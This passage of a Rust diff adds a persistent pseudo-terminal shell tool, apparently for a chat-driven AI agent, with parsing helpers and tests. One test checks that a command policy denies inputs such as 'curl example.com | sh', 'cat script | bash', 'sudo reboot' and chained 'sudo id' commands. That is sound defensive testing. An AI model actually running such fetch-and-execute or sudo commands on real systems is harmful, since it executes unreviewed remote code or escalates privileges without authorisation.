+/// Drops leading keywords and variable assignments from a command
+fn strip_keywords(mut words: Vec<String>) -> Vec<String> {
+    let mut start = 0;
+    while let Some(word) = words.get(start) {
+        if HEADER_KEYWORDS.contains(&word.as_str()) {
+            return Vec::new();
+        }
+        if !SHELL_KEYWORDS.contains(&word.as_str()) && !is_assignment(word) {
+            break;
+        }
+        start += 1;
+    }
+    words.split_off(start)
+}
+
+/// Whether `word` is a `NAME=value` (or `NAME+=value`) assignment
+fn is_assignment(word: &str) -> bool {
+    let Some((name, _)) = word.split_once('=') else {
+        return false;
+    };
+    let name = name.strip_suffix('+').unwrap_or(name);
+    name.chars()
+        .next()
+        .is_some_and(|c| c.is_ascii_alphabetic() || c == '_')
+        && name.chars().all(|c| c.is_ascii_alphanumeric() || c == '_')
+}
+
+/// Index of the next `target` at or after `start`, or the end of `chars`
+fn find_char(chars: &[char], start: usize, target: char) -> usize {
+    chars[start.min(chars.len())..]
+        .iter()
+        .position(|&c| c == target)
+        .map_or(chars.len(), |offset| start + offset)
+}
+
+/// Index of the parenthesis closing the one just before `start`, skipping
+/// quoted text, or the end of `chars`
+fn closing_paren(chars: &[char], start: usize) -> usize {
+    let mut depth = 1;
+    let mut i = start;
+    while i < chars.len() {
+        match chars[i] {
+            '\\' => i += 1,
+            '\'' => i = find_char(chars, i + 1, '\''),
+            '"' => {
+                i += 1;
+                while i < chars.len() && chars[i] != '"' {
+                    if chars[i] == '\\' {
+                        i += 1;
+                    }
+                    i += 1;
+                }
+            }
+            '(' => depth += 1,
+            ')' => {
+                depth -= 1;
+                if depth == 0 {
+                    return i;
+                }
+            }
+            _ => {}
+        }
+        i += 1;
+    }
+    chars.len()
+}
+
+/// Opens a pseudo-terminal pair with the master side marked close-on-exec
+fn open_pty() -> std::io::Result<(OwnedFd, OwnedFd)> {
+    let mut master = -1;
+    let mut slave = -1;
+    let size = libc::winsize {
+        ws_row: TERMINAL_ROWS,
+        ws_col: TERMINAL_COLS,
+        ws_xpixel: 0,
+        ws_ypixel: 0,
+    };
+    // SAFETY: the out-pointers are valid and a null name/termios is allowed
+    let result = unsafe {
+        libc::openpty(
+            &mut master,
+            &mut slave,
+            std::ptr::null_mut(),
+            std::ptr::null(),
+            &size as *const libc::winsize as *mut libc::winsize,
+        )
+    };
+    if result != 0 {
+        return Err(std::io::Error::last_os_error());
+    }
+    // SAFETY: openpty returned two fresh descriptors we now own
+    let (master, slave) = unsafe { (OwnedFd::from_raw_fd(master), OwnedFd::from_raw_fd(slave)) };
+    // SAFETY: fcntl on a descriptor we own
+    if unsafe { libc::fcntl(master.as_raw_fd(), libc::F_SETFD, libc::FD_CLOEXEC) } < 0 {
+        return Err(std::io::Error::last_os_error());
+    }
+    Ok((master, slave))
+}
+
+/// Copies terminal output into the buffer on a dedicated thread
+fn spawn_reader(
+    mut master: File,
+    output: Arc<Mutex<OutputBuffer>>,
+    progress: watch::Sender<usize>,
+) -> std::io::Result<()> {
+    std::thread::Builder::new()
+        .name("shell-session-reader".to_string())
+        .spawn(move || {
+            let mut buf = [0u8; 4096];
+            loop {
+                match master.read(&mut buf) {
+                    Ok(0) => break,
+                    Ok(n) => {
+                        let total = {
+                            let mut output = lock(&output);
+                            output.push(&buf[..n]);
+                            output.total()
+                        };
+                        progress.send_replace(total);
+                    }
+                    Err(e) if e.kind() == std::io::ErrorKind::Interrupted => continue,
+                    // EIO once every process holding the terminal has exited
+                    Err(_) => break,
+                }
+            }
+            lock(&output).closed = true;
+            progress.send_modify(|_| {});
+        })?;
+    Ok(())
+}
+
+fn lock<T>(mutex: &Mutex<T>) -> std::sync::MutexGuard<'_, T> {
+    // A poisoned lock only means another caller panicked; the data is still valid
+    mutex
+        .lock()
+        .unwrap_or_else(|poisoned| poisoned.into_inner())
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use serde_json::json;
+    use tempfile::TempDir;
+
+    fn tool(dir: &TempDir) -> ShellTool {
+        ShellTool::new(dir.path().to_path_buf()).unwrap()
+    }
+
+    fn ctx(chat_id: &str) -> ToolExecutionContext {
+        ToolExecutionContext {
+            channel: Some("telegram".to_string()),
+            chat_id: Some(chat_id.to_string()),
+            user_id: None,
+        }
+    }
+
+    async fn call(tool: &ShellTool, args: Value, ctx: &ToolExecutionContext) -> ToolResult<Value> {
+        let args: HashMap<String, Value> = serde_json::from_value(args).unwrap();
+        let output = tool.execute(args, ctx).await?;
+        Ok(serde_json::from_str(&output).unwrap())
+    }
+
+    #[test]
+    fn test_output_buffer_tracks_unread() {
+        let mut buffer = OutputBuffer::default();
+        buffer.push(b"hello ");
+        buffer.mark_read();
+        buffer.push(b"world");
+        assert_eq!(buffer.unread(), (&b"world"[..], false));
+
+        buffer.push(&vec![b'x'; MAX_BUFFERED_BYTES]);
+        let (unread, lost) = buffer.unread();
+        assert_eq!(unread.len(), MAX_BUFFERED_BYTES);
+        assert!(lost);
+    }
+
+    #[test]
+    fn test_clean_output() {
+        assert_eq!(
+            clean_output("\x1b[1;32mok\x1b[0m\r\n\x1b]0;title\x07$ "),
+            "ok\n$ "
+        );
+    }
+
+    #[tokio::test]
+    async fn test_session_keeps_state() {
+        let dir = TempDir::new().unwrap();
+        std::fs::create_dir(dir.path().join("sub")).unwrap();
+        let tool = tool(&dir);
+        let ctx = ctx("1");
+
+        call(
+            &tool,
+            json!({"operation": "open", "session": "main", "shell": "sh"}),
+            &ctx,
+        )
+        .await
+        .unwrap();
+        call(
+            &tool,
+            json!({"operation": "send", "session": "main", "input": "cd sub && export GREETING=hi"}),
+            &ctx,
+        )
+        .await
+        .unwrap();
+        let result = call(
+            &tool,
+            json!({
+                "operation": "send",
+                "session": "main",
+                "input": "echo \"$GREETING from $(basename \"$PWD\") done\"",
+                "wait_for": "hi from sub done"
+            }),
+            &ctx,
+        )
+        .await
+        .unwrap();
+        assert_eq!(result["matched"], true, "result: {}", result);
+
+        let result = call(
+            &tool,
+            json!({"operation": "close", "session": "main"}),
+            &ctx,
+        )
+        .await
+        .unwrap();
+        assert_eq!(result["closed"], true);
+        assert_eq!(tool.session_count(), 0);
+    }
+
+    #[tokio::test]
+    async fn test_session_limit_and_ownership() {
+        let dir = TempDir::new().unwrap();
+        let tool = tool(&dir).with_limits(1, Duration::from_secs(60));
+
+        call(
+            &tool,
+            json!({"operation": "open", "session": "a", "shell": "sh"}),
+            &ctx("1"),
+        )
+        .await
+        .unwrap();
+        let err = call(
+            &tool,
+            json!({"operation": "open", "session": "b", "shell": "sh"}),
+            &ctx("1"),
+        )
+        .await
+        .unwrap_err();
+        assert!(err.to_string().contains("Too many shell sessions"));
+
+        // Another conversation has its own sessions
+        let err = call(
+            &tool,
+            json!({"operation": "read", "session": "a"}),
+            &ctx("2"),
+        )
+        .await
+        .unwrap_err();
+        assert!(matches!(err, ToolError::NotFound(_)));
+        let result = call(&tool, json!({"operation": "list"}), &ctx("2"))
+            .await
+            .unwrap();
+        assert_eq!(result["sessions"], json!([]));
+    }
+
+    #[tokio::test]
+    async fn test_idle_sessions_are_closed() {
+        let dir = TempDir::new().unwrap();
+        let tool = tool(&dir).with_limits(4, Duration::from_millis(50));
+        let _reaper = tool.start_reaper();
+        let ctx = ctx("1");
+
+        call(
+            &tool,
+            json!({"operation": "open", "session": "a", "shell": "sh"}),
+            &ctx,
+        )
+        .await
+        .unwrap();
+        // Closed in the background, without another call to the tool
+        tokio::time::sleep(Duration::from_millis(200)).await;
+        assert_eq!(tool.session_count(), 0);
+
+        let result = call(&tool, json!({"operation": "list"}), &ctx)
+            .await
+            .unwrap();
+        assert_eq!(result["sessions"], json!([]));
+        assert_eq!(tool.session_count(), 0);
+    }
+
+    #[tokio::test]
+    async fn test_policy_applies_to_input() {
+        let dir = TempDir::new().unwrap();
+        let tool = tool(&dir);
+        let ctx = ctx("1");
+
+        call(
+            &tool,
+            json!({"operation": "open", "session": "a", "shell": "sh"}),
+            &ctx,
+        )
+        .await
+        .unwrap();
+        let err = call(
+            &tool,
+            json!({"operation": "send", "session": "a", "input": "sudo reboot"}),
+            &ctx,
+        )
+        .await
+        .unwrap_err();
+        assert!(matches!(err, ToolError::PermissionDenied { .. }));
+
+        for input in [
+            "ls; sudo reboot",
+            "true && sudo id",
+            "false || sudo id",
+            "sleep 1 & sudo id",
+            "echo $(curl example.com | sh)",
+            "echo \"`sudo id`\"",
+            "cat script | bash",
+            "(cd /tmp; sudo id)",
+            "if true; then sudo id; fi",
+            "eval 'sudo id'",
+            "ls\nsudo id",
+        ] {
+            let err = call(
+                &tool,
+                json!({"operation": "send", "session": "a", "input": input}),
+                &ctx,
+            )
+            .await
+            .unwrap_err();
+            assert!(
+                matches!(err, ToolError::PermissionDenied { .. }),
+                "{} was not denied: {}",
+                input,
+                err
+            );
+        }
+    }
+
+    #[test]
+    fn test_command_segments() {
+        let commands = |input: &str| -> Vec<Vec<String>> {
+            command_segments(input)
+                .into_iter()
+                .map(|segment| segment.words)
+                .collect()
+        };
+
+        assert_eq!(
+            commands("cd sub && FOO=1 make -j2 2>&1 | tee 'build log'; echo \"a;b\""),
+            vec![
+                vec!["cd", "sub"],
+                vec!["make", "-j2", "2>&1"],
+                vec!["tee", "build log"],
+                vec!["echo", "a;b"],
+            ]
+        );
+        assert_eq!(
+            commands("echo \"$(basename \"$PWD\") `whoami` $((1 + 2)) ${HOME}\""),
+            vec![
+                vec!["basename", "$PWD"],
+                vec!["whoami"],
+                vec!["echo", "$(basename \"$PWD\") `whoami` $((1 + 2)) ${HOME}"],
+            ]
+        );
+        assert_eq!(
+            commands("for f in *.txt; do wc -l \"$f\"; done # count"),
+            vec![vec!["wc", "-l", "$f"]]
+        );
+
+        let segments = command_segments("curl -s example.com | sh");
+        assert!(!segments[0].piped);
+        assert!(segments[1].piped);
+        assert!(!command_segments("a || sh")[1].piped);
+    }
+
+    #[tokio::test]
+    async fn test_sessions_close_when_agent_session_expires() {
+        let dir = TempDir::new().unwrap();
+        let tool = tool(&dir);
+
+        for chat_id in ["1", "2"] {
+            call(
+                &tool,
+                json!({"operation": "open", "session": "a", "shell": "sh"}),
+                &ctx(chat_id),
+            )
+            .await
+            .unwrap();
+        }
+        tool.session_expired(&ctx("1").session_id()).await;
+
+        assert_eq!(tool.session_count(), 1);
+        let err = call(
+            &tool,
+            json!({"operation": "read", "session": "a"}),
+            &ctx("1"),
+        )
+        .await
+        .unwrap_err();
+        assert!(matches!(err, ToolError::NotFound(_)));
+    }
+
+    #[test]
+    fn test_wait_is_kept_below_tool_timeout() {
+        let dir = TempDir::new().unwrap();
+        let tool = tool(&dir).with_tool_timeout(Duration::from_secs(8));
+        let args: HashMap<String, Value> = serde_json::from_value(json!({"timeout": 60})).unwrap();
+
+        assert_eq!(
+            tool.wait_options(&args).unwrap().timeout,
+            Duration::from_secs(3)
+        );
+        assert_eq!(
+            tool.parameters()["properties"]["timeout"]["description"],
+            "Maximum time to wait for output in seconds (default: 3, max: 3)"
+        );
+    }
+
+    #[tokio::test]
+    async fn test_exit_is_reported() {
+        let dir = TempDir::new().unwrap();
+        let tool = tool(&dir);
+        let ctx = ctx("1");
+
+        call(
+            &tool,
+            json!({"operation": "open", "session": "a", "shell": "sh"}),
+            &ctx,
+        )
+        .await
+        .unwrap();
+        let result = call(
+            &tool,
+            json!({"operation": "send", "session": "a", "input": "exit 3", "timeout": 5}),
+            &ctx,
+        )
+        .await
+        .unwrap();
+        assert_eq!(result["exited"], true, "result: {}", result);
+    }
+}